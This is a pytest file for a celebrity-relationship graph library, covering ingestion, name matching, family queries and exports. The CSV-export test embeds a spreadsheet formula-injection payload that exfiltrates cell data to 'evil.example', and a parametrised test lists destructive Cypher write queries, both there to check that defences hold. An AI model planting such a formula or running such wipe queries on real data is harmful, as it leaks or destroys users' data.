"""The same assertions against both stores: LadybugDB in tmp_path, and a real Neo4j server."""

from __future__ import annotations

import csv
import io
import json
import os
import random
from collections.abc import Iterator

import networkx as nx
import pytest
from needs import unavailable
from relationships import relationships

from celebgraph.errors import (
    AmbiguousNameError,
    CelebgraphError,
    QueryError,
    UnknownNameError,
    WriteQueryRefusedError,
)
from celebgraph.graph import ArticleRow, ClaimRow, Graph, PersonRow, RelRow, open_graph
from celebgraph.graph.embedded import EmbeddedStore
from celebgraph.graph.model import row_dict
from celebgraph.models import Document, Extraction, Fact, Person
from celebgraph.settings import Settings


def document(doc_id: str, version: str = "v1") -> Document:
    return Document(id=doc_id, text=version, path=f"/news/{doc_id}", published="2021-06-09",
                    title=doc_id.upper(), sha256=f"{doc_id}-{version}")


def fact(doc: str, relation: str, subject: str, obj: str | None = None, **kw: object) -> Fact:
    return Fact(doc=doc, relation=relation, subject=subject, object=obj,  # type: ignore[arg-type]
                evidence=f"{subject} {relation} {obj or ''} ({doc})", confidence=0.9, **kw)  # type: ignore[arg-type]


def article_a(version: str = "v1", divorce: bool = True) -> Extraction:
    facts = [
        fact("a", "spouse", "Kim Kardashian", "Kanye West", start="2014"),
        fact("a", "parent", "Kim Kardashian", "North"),
        fact("a", "parent", "Kanye West", "North"),
        fact("a", "parent", "Kim Kardashian", "Psalm", ),
        fact("a", "born", "Psalm", date="2019-05"),
        fact("a", "born", "Kanye West", date="1977"),
    ]
    if divorce:
        facts.append(fact("a", "divorce_filed", "Kim Kardashian", "Kanye West", date="2021-02"))
    people = [Person("Kim Kardashian", ("Kim",)), Person("Kanye West", ("Kanye", "Ye")),
              Person("North"), Person("Psalm")]
    return Extraction(document("a", version), people, facts)


def article_b() -> Extraction:
    people = [Person("Kim Kardashian West", ("Kim",)), Person("North West", ("North",)),
              Person("Kim Jong-un", ("Kim",)), Person("Kris Jenner", ("Kris",))]
    facts = [
        fact("b", "born", "North West", date="2013-06-15"),
        fact("b", "parent", "Kim Kardashian West", "North West"),
        fact("b", "parent", "Kris Jenner", "Kim Kardashian West"),
        fact("b", "born", "Kanye West", date="1977-06-08"),
    ]
    return Extraction(document("b"), people, facts)


def article_c() -> Extraction:
    people = [Person("Kanye West"), Person("Kim Kardashian"), Person("Irina Shayk")]
    facts = [fact("c", "partner", "Kanye West", "Irina Shayk", start="2022"),
             fact("c", "spouse", "Kanye West", "Kim Kardashian", end="2022-11")]
    return Extraction(document("c"), people, facts)


def _wipe_neo4j(settings: Settings) -> None:
    import neo4j

    auth = (settings.neo4j_username, settings.neo4j_password or "")
    with neo4j.GraphDatabase.driver(settings.neo4j_uri or "", auth=auth) as driver:
        driver.execute_query("MATCH (n) DETACH DELETE n", database_=settings.neo4j_database)


def _neo4j_settings(request: pytest.FixtureRequest) -> Settings:
    try:
        settings: Settings = request.getfixturevalue("neo4j_settings")
        return settings
    except pytest.FixtureLookupError:
        uri = os.environ.get("NEO4J_URI")
        if uri:
            return Settings(neo4j_uri=uri, neo4j_username=os.environ.get("NEO4J_USERNAME", "neo4j"),
                            neo4j_password=os.environ.get("NEO4J_PASSWORD"),
                            neo4j_database=os.environ.get("NEO4J_DATABASE"))
        unavailable("no Neo4j server: no neo4j_settings fixture and NEO4J_URI unset")


@pytest.fixture(params=["embedded", pytest.param("neo4j", marks=pytest.mark.neo4j)])
def graph(request: pytest.FixtureRequest, tmp_path: os.PathLike[str]) -> Iterator[Graph]:
    if request.param == "embedded":
        g = open_graph(os.path.join(tmp_path, "graph.lbdb"))
    else:
        settings = _neo4j_settings(request)
        _wipe_neo4j(settings)
        g = open_graph(settings)
    with g:
        yield g


@pytest.fixture
def loaded(graph: Graph) -> Graph:
    graph.ingest_extractions([article_a(), article_b(), article_c()])
    return graph


def snapshot(g: Graph) -> dict[str, object]:
    return json.loads(g.export("json"))  # type: ignore[no-any-return]


def without_reasons(snap: dict[str, object]) -> dict[str, object]:
    nodes = [{k: v for k, v in n.items() if k != "reasons"} for n in snap["nodes"]]  # type: ignore[attr-defined]
    return {**snap, "nodes": nodes}


def test_a_person_row_written_again_holds_its_new_values_and_only_them(graph: Graph) -> None:
    """The embedded store sets only the columns that changed, grouped by which: people whose
    changes differ, one whose row is unchanged, every column changed at once."""
    first = [PersonRow(id=f"p{k}", name=f"Ada Moss{k}", aliases=["Ada"], birth_date="1970",
                       mentions=["a: Ada"], reasons=["a: why"]) for k in range(4)]
    graph.store.bulk_load(first, [])
    second = [
        PersonRow(id="p0", name="Ada Moss0", aliases=["Ada"], birth_date="1971",
                  mentions=["a: Ada"], reasons=["a: why"]),
        PersonRow(id="p1", name="Ada Moss1", aliases=[], birth_date="1970",
                  mentions=["a: Ada", "b: Ada Moss1"], reasons=["a: why"]),
        first[2],
        PersonRow(id="p3", name="Ada Lane", aliases=["Addie"], birth_date=None,
                  death_date="2020", birth_sources=["b"], death_sources=["b"],
                  mentions=["b: Ada Lane"], alias_mentions=["b: Addie"], reasons=[],
                  descriptors=["poet"], descriptor_mentions=["b: poet"], age_mentions=["b: 1950"]),
    ]
    graph.store.bulk_load(second, [])
    for row in second:
        stored = graph.store.read("MATCH (p:Person {id: $id}) RETURN p", {"id": row.id})[0]["p"]
        for column, value in row_dict(row).items():  # an empty list and no value are alike
            assert (stored.get(column) or None) == (value or None), (row.id, column)


def test_a_person_written_again_keeps_exactly_the_name_edges_of_the_new_row(graph: Graph) -> None:
    """Edges a rename drops go, new ones come, a key that changes kind keeps one edge of the
    new kind, and an unchanged one stays (only new or changed edges are written)."""
    graph.store.bulk_load([PersonRow(id="p", name="Ada Moss", aliases=["Ada Lane", "Addie Q"]),
                           PersonRow(id="q", name="Bo Moss")], [])
    graph.store.bulk_load([PersonRow(id="p", name="Ada Lane", aliases=["Ada Moss", "Ada Quill"])],
                          [])
    rows = graph.store.read("MATCH (n:Name)-[r:NAMES]->(p:Person) "
                            "RETURN p.id AS id, n.key AS key, r.kind AS kind")
    assert sorted((r["id"], r["key"], r["kind"]) for r in rows) == [
        ("p", "ada lane", "name"), ("p", "ada mos", "spelling"), ("p", "ada moss", "alias"),
        ("p", "ada quil", "spelling"), ("p", "ada quill", "alias"),
        ("q", "bo mos", "spelling"), ("q", "bo moss", "name")]  # spelling: names.spelling_key


def test_ingest_counts_and_provenance(loaded: Graph) -> None:
    stats = loaded.stats()
    assert stats["people"] == 7  # Kim, Kanye, North, Psalm, Kim Jong-un, Kris, Irina
    assert stats["articles"] == 3
    assert stats["relationships"]["PARENT_OF"] == 4
    assert stats["relationships"]["SPOUSE_OF"] == 1
    spouse = relationships(loaded, "SPOUSE_OF")
    assert spouse == [{"source": "kanye-west", "target": "kim-kardashian", "type": "SPOUSE_OF",
                       "start": "2014", "end": "2022-11", "sources": ["a", "c"],
                       "evidence": ["Kim Kardashian spouse Kanye West (a)",
                                    "Kanye West spouse Kim Kardashian (c)"],
                       "confidence": 0.9, "modality": "asserted"}]


def test_cross_document_people(loaded: Graph) -> None:
    kim = loaded.explain("Kim Kardashian West")
    assert kim["id"] == "kim-kardashian"
    assert kim["mentions"] == ["a: Kim Kardashian", "b: Kim Kardashian West", "c: Kim Kardashian"]
    north = loaded.explain("North West")  # one-word "North" in a joins via her mother
    assert north["mentions"] == ["a: North", "b: North West"]
    assert loaded.person("Kim Jong-un")["id"] == "kim-jong-un"  # shares a first name, stays apart
    assert loaded.person("Kanye")["birth_date"] == "1977-06-08"  # the more precise date wins


def test_fuller_name_joins_a_one_word_relative_from_an_earlier_ingest(graph: Graph) -> None:
    graph.ingest_extractions([article_a()])
    graph.ingest_extractions([article_b()])  # "North West", daughter of Kim: a's "North"
    assert graph.explain("North West")["mentions"] == ["a: North", "b: North West"]
    assert graph.stats()["people"] == 6


def test_a_new_person_whose_id_is_taken_gets_the_next_free_one(graph: Graph) -> None:
    def wedding(doc: str, bride: str, groom: str) -> Extraction:
        return Extraction(document(doc), [Person(bride), Person(groom)],
                          [fact(doc, "spouse", bride, groom)])

    graph.ingest_extractions([wedding("d1", "Anna-Lee Park", "Tom Reyes")])
    # Different names with the same slug: new people, so the next free ids.
    graph.ingest_extractions([wedding("d2", "Anna Lee Park", "Bo Chen"),
                              wedding("d3", "Anna Lee-Park", "Cy Diaz")])
    ids = {r["id"]: r["name"] for r in graph.cypher(
        "MATCH (p:Person) WHERE p.id STARTS WITH 'anna' RETURN p.id AS id, p.name AS name")}
    assert ids == {"anna-lee-park": "Anna-Lee Park", "anna-lee-park-2": "Anna Lee Park",
                   "anna-lee-park-3": "Anna Lee-Park"}


def test_second_ingest_changes_nothing(graph: Graph) -> None:
    first = graph.ingest_extractions([article_a(), article_b(), article_c()])
    before = snapshot(graph)
    again = graph.ingest_extractions([article_a(), article_b(), article_c()])
    assert (again.new, again.unchanged, again.updated) == (0, 3, 0)
    assert (again.people, again.relationships) == (first.people, first.relationships)
    assert snapshot(graph) == before
    rewritten = graph.ingest_extractions([article_a("v2"), article_b(), article_c()])
    assert (rewritten.updated, rewritten.unchanged) == (1, 2)
    # Same facts under a new hash: same graph. Only the account of how a name joined a person
    # (``reasons``) may differ: it says what was known when that article was read.
    assert without_reasons(snapshot(graph)) == without_reasons(before)


def test_changed_article_replaces_only_its_own_facts(loaded: Graph) -> None:
    summary = loaded.ingest_extractions([article_a("v2", divorce=False)])
    assert summary.updated == 1
    assert loaded.stats()["relationships"]["FILED_FOR_DIVORCE"] == 0
    assert [s["name"] for s in loaded.spouses("Kim Kardashian")] == ["Kanye West"]
    assert loaded.person("Kanye West")["birth_sources"] == ["a", "b"]


def test_removing_an_article_recomputes(loaded: Graph) -> None:
    loaded.remove_articles(["b"])
    assert loaded.person("Kanye West")["birth_date"] == "1977"
    with pytest.raises(UnknownNameError):
        loaded.person("Kris Jenner")
    mentions = loaded.explain("Kim Kardashian")["mentions"]
    assert mentions == ["a: Kim Kardashian", "c: Kim Kardashian"]


def test_relationship_queries(loaded: Graph) -> None:
    assert loaded.spouses("kim kardashian") == [
        {"name": "Kanye West", "descriptors": [], "start": "2014", "end": "2022-11",
         "sources": ["a", "c"], "fact": "spouse:kanye-west:kim-kardashian",
         "modality": "asserted"}]
    assert [c["name"] for c in loaded.children("Kim Kardashian")] == ["North West", "Psalm"]
    assert [p["name"] for p in loaded.parents("North West")] == ["Kanye West", "Kim Kardashian"]
    assert loaded.siblings("Psalm") == [{"name": "North West", "descriptors": [],
                                         "via": "shared parent", "sources": ["a", "b"],
                                         "fact": None, "modality": "asserted"}]
    family = {r["name"]: r for r in loaded.family("Psalm", depth=2)}
    assert family["Kim Kardashian"]["relation"] == "parent"
    assert family["Kris Jenner"]["relation"] == "parent > parent"
    assert family["Kanye West"]["distance"] == 2
    assert "Irina Shayk" not in family


def test_timeline_in_order_with_child_births(loaded: Graph) -> None:
    events = loaded.timeline("Kanye West")
    assert [(e["date"], e["event"]) for e in events] == [
        ("1977-06-08", "born"), ("2013-06-15", "child_born"), ("2014", "married"),
        ("2021-02", "divorce_filed"), ("2022", "partner_start"), ("2022-11", "divorced")]
    assert events[1]["people"] == ["Kanye West", "North West"]
    assert events[1]["sources"] == ["a", "b"]
    kim = loaded.timeline("Kim Kardashian")
    assert [e["event"] for e in kim][:3] == ["child_born", "married", "child_born"]
    assert all(set(e) == {"date", "event", "people", "sources", "modality"}
               for e in kim)


def test_path_between_people(loaded: Graph) -> None:
    steps = loaded.path("Kris Jenner", "Irina Shayk")
    assert [(s["from"], s["relation"], s["to"]) for s in steps] == [
        ("Kris Jenner", "parent of", "Kim Kardashian"),
        ("Kim Kardashian", "spouse of", "Kanye West"),
        ("Kanye West", "partner of", "Irina Shayk")]
    with pytest.raises(CelebgraphError, match="not related"):
        loaded.path("Kim Jong-un", "Kanye West")


def test_names_case_alias_unknown_ambiguous(loaded: Graph) -> None:
    assert loaded.person("KIM KARDASHIAN")["id"] == "kim-kardashian"
    assert loaded.person("ye")["id"] == "kanye-west"
    with pytest.raises(AmbiguousNameError) as err:
        loaded.person("Kim")
    assert err.value.candidates == ["Kim Jong-un (kim-jong-un)",
                                    "Kim Kardashian (kim-kardashian; child of Kris Jenner)"]
    with pytest.raises(UnknownNameError, match="Did you mean: Kim Kardashian"):
        loaded.person("Kim Kardashain")


@pytest.mark.parametrize("query", [
    "MATCH (n) DETACH DELETE n",
    "match (p:Person) set p.name = 'x' return p",
    "MERGE (p:Person {id: 'x'})",
    "CREATE (:Person {id: 'x'})",
    "MATCH (p:Person) WITH p /* comment */ CREATE (q:Person {id: 'y'})",
])
def test_write_queries_are_refused(loaded: Graph, query: str) -> None:
    with pytest.raises(WriteQueryRefusedError, match="read-only"):
        loaded.cypher(query)
    assert loaded.stats()["people"] == 7


def test_read_query_with_write_words_in_strings(loaded: Graph) -> None:
    rows = loaded.cypher("MATCH (p:Person) WHERE p.name <> 'CREATE x' // DELETE\n"
                         "RETURN p.name AS name ORDER BY name LIMIT $n", n=2)
    assert rows == [{"name": "Irina Shayk"}, {"name": "Kanye West"}]


def test_syntax_error_is_a_query_error(loaded: Graph) -> None:
    with pytest.raises(QueryError) as err:
        loaded.cypher("MATC (p:Person) RETURN p")
    assert "MATC" in str(err.value)
    assert not isinstance(err.value, WriteQueryRefusedError)


def test_failed_batch_rolls_back(graph: Graph) -> None:
    store = graph.store

    def work(tx: object) -> None:
        tx.run(store.text("UPSERT_ARTICLES"), {"rows": [  # type: ignore[attr-defined]
            {"id": "z", "path": None, "sha256": "z", "published": None, "title": None,
             "url": None, "author": None, "site": None}]})
        raise RuntimeError("boom")

    with pytest.raises(Exception, match="boom"):
        store.write(work)
    assert graph.stats()["articles"] == 0


def test_networkx_and_exports(loaded: Graph) -> None:
    g = loaded.to_networkx()
    assert g.number_of_nodes() == 7
    assert g.nodes["kim-kardashian"]["aliases"] == ["Kim", "Kim Kardashian West"]
    edge = g.get_edge_data("kim-kardashian", "north", key="PARENT_OF")
    assert edge["sources"] == ["a", "b"]
    assert "<graphml" in loaded.export("graphml")
    assert loaded.export("csv").splitlines()[0].startswith('"source","source_name","type"')
    assert len(json.loads(loaded.export("json"))["edges"]) == g.number_of_edges()


def test_csv_export_has_no_cell_a_spreadsheet_would_run(graph: Graph) -> None:
    """Names and evidence that start like a formula get a leading single quote (OWASP);
    confidence stays a number (unquoted: read back as a float)."""
    evil = '=HYPERLINK("http://evil.example/?"&A1, "open")'
    marriage = Fact(doc="f", relation="spouse", subject="-Jane Roe", object="@John Doe",
                    evidence=evil, confidence=0.9, start="2010")
    people = [Person("-Jane Roe"), Person("@John Doe")]
    graph.ingest_extractions([Extraction(document("f"), people, [marriage])])
    header, row = csv.reader(io.StringIO(graph.export("csv")), quoting=csv.QUOTE_NONNUMERIC)
    cells = dict(zip(header, row, strict=True))
    assert (cells["source_name"], cells["target_name"]) == ("'-Jane Roe", "'@John Doe")
    assert (cells["evidence"], cells["start"], cells["confidence"]) == ("'" + evil, "2010", 0.9)


def test_bulk_load_rows(graph: Graph) -> None:
    people = [PersonRow(id=f"p{i}", name=f"Person {i}", birth_date="1990") for i in range(50)]
    rels = [RelRow(type="PARENT_OF", a=f"p{i}", b=f"p{i + 1}") for i in range(49)]
    graph.store.bulk_load(people, rels, batch_size=20)
    assert graph.stats()["people"] == 50
    assert len(graph.path("Person 0", "Person 5")) == 5
    assert graph.family("person 5", depth=1) == [
        {"name": "Person 4", "id": "p4", "descriptors": [], "distance": 1, "relation": "parent",
         "modality": "asserted"},
        {"name": "Person 6", "id": "p6", "descriptors": [], "distance": 1, "relation": "child",
         "modality": "asserted"}]


def _random_family(seed: int, people: int) -> tuple[list[PersonRow], list[RelRow]]:
    rng = random.Random(seed)
    rels = []
    for i in range(1, people):  # a tree of links, so everyone is related ...
        rels.append(RelRow(type=rng.choice(["PARENT_OF", "SPOUSE_OF", "SIBLING_OF"]),
                           a=f"p{rng.randrange(i)}", b=f"p{i}"))
    for _ in range(people // 3):  # ... plus shortcuts, so paths have rivals
        a, b = rng.sample(range(people), 2)
        rels.append(RelRow(type=rng.choice(["PARENT_OF", "PARTNER_OF"]), a=f"p{a}", b=f"p{b}"))
    return [PersonRow(id=f"p{i}", name=f"Person {i}") for i in range(people)], rels


def test_paths_are_shortest_and_name_each_link_the_right_way(graph: Graph) -> None:
    people, rels = _random_family(seed=3, people=120)
    graph.store.bulk_load(people, rels, batch_size=50)
    links = {(r.type, f"Person {r.a[1:]}", f"Person {r.b[1:]}") for r in rels}
    undirected = nx.Graph([(a, b) for _, a, b in links])
    rng = random.Random(5)
    lengths = []
    for _ in range(40):
        a, b = (f"Person {i}" for i in rng.sample(range(120), 2))
        steps = graph.path(a, b, max_hops=12)
        lengths.append(len(steps))
        assert len(steps) == nx.shortest_path_length(undirected, a, b)
        assert steps[0]["from"] == a and steps[-1]["to"] == b
        for s in steps:
            if s["relation"] == "child of":
                assert ("PARENT_OF", s["to"], s["from"]) in links
            else:
                forward, backward = (s["type"], s["from"], s["to"]), (s["type"], s["to"], s["from"])
                assert forward in links or (s["type"] != "PARENT_OF" and backward in links)
    assert min(lengths) <= 2 and max(lengths) >= 5  # short and long paths both checked


def test_bulk_load_upserts_rows_that_exist(graph: Graph) -> None:
    people = [PersonRow(id=f"p{i}", name=f"Person {i}") for i in range(10)]
    rels = [RelRow(type="SIBLING_OF", a=f"p{i}", b=f"p{i + 1}") for i in range(9)]
    graph.store.bulk_load(people, rels + rels[:3], batch_size=4)  # repeats across chunks
    people[3] = PersonRow(id="p3", name="Person Three", aliases=["P3"])
    again = [RelRow(type="SIBLING_OF", a="p1", b="p0", start="2001", sources=["x"])]
    claim = ClaimRow(id="x#0", doc="x", relation="sibling", subject="p0", object="p1",
                     start="2001", evidence="P0 and P1 are siblings.")
    graph.store.bulk_load(people, again, articles=[ArticleRow("x")], claims=[claim],
                          batch_size=4)
    stats = graph.stats()
    assert (stats["people"], stats["relationships"]["SIBLING_OF"]) == (10, 9)
    assert graph.person("p3")["name"] == "Person Three"
    with pytest.raises(UnknownNameError):
        graph.person("Person 3")  # the name it lost no longer finds it
    rows = relationships(graph, "SIBLING_OF", source="p0")
    assert [(r["target"], r.get("start"), r["sources"]) for r in rows] == [("p1", "2001", ["x"])]
    said = graph.cypher("MATCH (:Article {id: 'x'})-[:CLAIMS]->(c:Claim)-[:OBJECT]->(b:Person) "
                        "MATCH (c)-[:SUBJECT]->(a:Person) RETURN a.id AS a, b.id AS b, "
                        "c.relation AS relation, c.start AS start")
    assert said == [{"a": "p0", "b": "p1", "relation": "sibling", "start": "2001"}]
    assert [r["name"] for r in graph.siblings("Person 5")] == ["Person 4", "Person 6"]


def test_embedded_store_reopens(tmp_path: os.PathLike[str]) -> None:
    path = os.path.join(tmp_path, "g.lbdb")
    with open_graph(path) as g:
        g.ingest_extractions([article_a()])
    with EmbeddedStore(path) as store, open_graph(store) as g:
        assert g.stats()["people"] == 4


def test_each_link_knows_its_direction_from_either_end(graph: Graph) -> None:
    """Neighbours, resolution's kin and the path search read a link from one undirected
    match; which end it starts at must still be right, from both ends."""
    people = [PersonRow(id=i, name=f"Ody {i.title()}") for i in ("gran", "dam", "kit")]
    rels = [RelRow(type="PARENT_OF", a="dam", b="kit"), RelRow(type="PARENT_OF", a="gran", b="dam")]
    graph.store.bulk_load(people, rels)
    seen = {(r["id"], r["other"], r["out"]) for r in graph.store.kin(["dam", "kit"])}
    assert seen == {("dam", "kit", True), ("dam", "gran", False), ("kit", "dam", False)}
    rows = graph.store.neighbors(["gran"])
    assert [(r["type"], r["other"], r["out"]) for r in rows] == [("PARENT_OF", "dam", True)]
    around = graph.store.neighborhood("kit", 1)
    assert {(r["id"], r["other"], r["out"]) for r in around} == {
        ("kit", "dam", False), ("dam", "kit", True), ("dam", "gran", False)}
    steps = graph.store.shortest_path("kit", "gran", 3)
    assert steps is not None
    assert [(s["from_id"], s["type"], s["to_id"], s["forward"]) for s in steps] == [
        ("kit", "PARENT_OF", "dam", False), ("dam", "PARENT_OF", "gran", False)]
